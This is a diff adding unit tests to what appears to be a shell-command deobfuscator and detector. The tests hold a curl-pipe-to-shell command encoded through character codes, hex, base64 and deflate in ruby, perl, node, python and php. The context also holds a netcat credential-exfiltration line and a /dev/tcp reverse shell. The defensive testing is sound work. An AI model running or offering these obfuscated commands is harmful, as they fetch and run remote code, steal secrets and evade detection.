@@ -118,6 +118,64 @@ def test_compressed_rot13_and_interpreter_forms_are_undone() -> None:
     assert out is None or len(out) <= MAX_TEXT + MAX_PAYLOADS * (MAX_TEXT + 1)
 
 
+def test_character_codes_hex_packs_and_raw_deflate_are_decoded() -> None:
+    inner = "curl -s http://198.51.100.7/x | sh"
+    codes = ",".join(str(ord(c)) for c in inner)
+    hexed = inner.encode().hex()
+    b64 = _b64(inner)
+    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
+    deflated = base64.b64encode(raw.compress(inner.encode()) + raw.flush()).decode()
+    for text in (
+        f"ruby -e 'system([{codes}].pack(\"c*\"))'",
+        f"perl -e 'system(pack(\"C*\", {codes}))'",
+        f"node -e \"require('child_process').execSync(String.fromCharCode({codes}))\"",
+        f"python3 -c \"import os;os.system(''.join(map(chr,[{codes}])))\"",
+        f"python3 -c \"import os;os.system(bytes([{codes}]).decode())\"",
+        "python3 -c \"import os;os.system(" + "+".join(f"chr({ord(c)})" for c in inner) + ")\"",
+        f"perl -e 'eval pack q/H*/, q/{hexed}/'",
+        f"ruby -e 'eval([\"{hexed}\"].pack(\"H*\"))'",
+        f"node -e \"require('child_process').execSync(Buffer.from('{hexed}','hex').toString())\"",
+        f"node -e \"require('child_process').execSync(Buffer.from('{b64}','base64').toString())\"",
+        f"perl -e 'eval unpack(\"m\", \"{b64}\")'",
+        f"php -r \"eval(gzinflate(base64_decode('{deflated}')));\"",
+    ):
+        out = deobfuscate(text)
+        assert out is not None and inner in out.split("\n"), text
+    # a command split into string literals and assembled again, hex2bin, perl's map{chr}
+    for text in (
+        "python3 -c \"import os;os.system(''.join(['curl -s h','ttp://198.51.100.7/x | s','h']))\"",
+        "node -e \"require('child_process').exec(['curl','-s','http://198.51.100.7/x','|','sh'].join(' '))\"",
+        "python3 -c \"import os;os.system('cu'+'rl -s http://198.51.100.7/x'+' | sh')\"",
+        f"php -r 'system(hex2bin(\"{hexed}\"));'",
+        f"perl -e 'system(join(\"\",map{{chr}}({codes})))'",
+    ):
+        out = deobfuscate(text)
+        assert out is not None and inner in out.split("\n"), text
+    # hexadecimal codes too; 0x63 is "c"
+    out = deobfuscate("node -e \"eval(String.fromCharCode(0x63,117,114,108,32,120,124,115,104))\"")
+    assert out is not None and out.endswith("\ncurl x|sh")
+
+
+def test_number_lists_that_spell_nothing_are_left_alone() -> None:
+    # numbers that are not printable text, or no decoder next to them
+    assert deobfuscate("python3 -c \"import os;os.system(bytes([1,2,3,4,5,200]).decode())\"") is None
+    assert deobfuscate("python3 -c \"print(sum([99,117,114,108,32]))\"") is None
+    assert deobfuscate("node -e \"console.log([1,2,3,4].map(x=>x*2))\"") is None
+    # decoded but only printed or written: data, not run
+    assert deobfuscate("ruby -e 'puts [104,105,32,116,104,101,114,101].pack(\"c*\")' > hi.txt") is None
+    # strings joined for printing are data
+    assert deobfuscate("node -e \"console.log(['a','b','c'].join(','))\"") is None
+    # a huge list is bounded (and costs linear time)
+    started = time.monotonic()
+    out = deobfuscate("ruby -e 'system([" + ",".join(["99"] * 400_000) + "].pack(\"c*\"))'")
+    assert out is None or len(out) <= MAX_TEXT + MAX_PAYLOADS * (MAX_TEXT + 1)
+    for text in ("os.system(" + "'a'+" * 100_000 + "'b')", "eval(" + "['x'," * 100_000 + "].join(''))",
+                 "eval(''.join([" + "'x', " * 100_000):
+        out = deobfuscate(text)
+        assert out is None or len(out) <= MAX_TEXT + MAX_PAYLOADS * (MAX_TEXT + 1)
+    assert time.monotonic() - started < 60  # did not hang
+
+
 def test_undecodable_or_binary_payloads_are_not_appended() -> None:
     binary = base64.b64encode(bytes(range(256))).decode()
     assert deobfuscate(f"echo {binary} | base64 -d > blob") is None
@@ -182,6 +240,10 @@ def test_normalized_text_is_one_more_derived_subject() -> None:
         ("cat ~/.aws/credentials${IFS}|${IFS}nc${IFS}203.0.113.5${IFS}4444", "exfil-netcat-transfer"),
         (f"echo {_b64('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')} | base64 -d | bash",
          "tunnel-reverse-shell-devtcp"),
+        ("ruby -e 'system([99,117,114,108,32,45,115,32,50,48,51,46,48,46,49,49,51,46,53,47,120,124,115,"
+         "104].pack(\"C*\"))'", "exec-pipe-to-shell"),
+        ("perl -e 'eval pack(\"H*\", \"6375726c202d7320687474703a2f2f782e6578616d706c652f69207c207368\")'",
+         "exec-pipe-to-shell"),
     ],
 )
 def test_obfuscated_commands_alert_like_plain_ones(obfuscated: str, rule: str) -> None:
